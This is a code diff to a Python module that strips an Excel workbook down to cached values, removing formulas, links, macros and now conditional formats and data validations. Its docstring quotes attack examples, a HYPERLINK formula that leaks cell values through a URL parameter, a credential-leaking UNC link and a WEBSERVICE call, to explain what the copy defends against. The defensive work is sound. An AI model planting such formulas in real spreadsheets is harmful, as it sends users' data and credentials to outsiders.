@@ -5,7 +5,9 @@ clerk (or an attacker) put in it must not run when it is opened: a formula such 
 ``=HYPERLINK("http://…?leak="&B5)`` sends cell values away, an external link to a UNC share leaks the
 opener's credentials, macros and data connections run code or queries. The copy keeps every cell's
 cached value (what Excel showed), the formula as text in the cell's comment, formats and merged cells;
-it drops formulas, external links and external hyperlinks, defined names, macros and connections.
+it drops formulas, external links and external hyperlinks, defined names, macros and connections, and
+conditional formats and data validations (their rules are formulas too: ``WEBSERVICE(…)`` in a rule
+calls out when Excel evaluates it).
 """
 
 from __future__ import annotations
@@ -38,6 +40,7 @@ def values_only_copy(path: Path) -> Workbook:
                     set_cell(cell, values.get((cell.row, cell.column)))
                     cell.comment = Comment(f"{FORMULA_NOTE}{formula}"[:2000], "数据管理员", width=320, height=60)
             _clear_names(sheet)
+            _clear_rules(sheet)
     finally:
         cached.close()
     _clear_names(workbook)
@@ -54,6 +57,15 @@ def _cached_values(cached, title: str) -> dict[tuple[int, int], object]:
             if getattr(cell, "value", None) is not None:
                 values[(cell.row, cell.column)] = cell.value
     return values
+
+
+def _clear_rules(sheet) -> None:
+    """A sheet's conditional formats and data validations, whose rules are formulas: gone."""
+    from openpyxl.formatting.formatting import ConditionalFormattingList
+    from openpyxl.worksheet.datavalidation import DataValidationList
+
+    sheet.conditional_formatting = ConditionalFormattingList()
+    sheet.data_validations = DataValidationList()
 
 
 def _clear_names(owner) -> None:
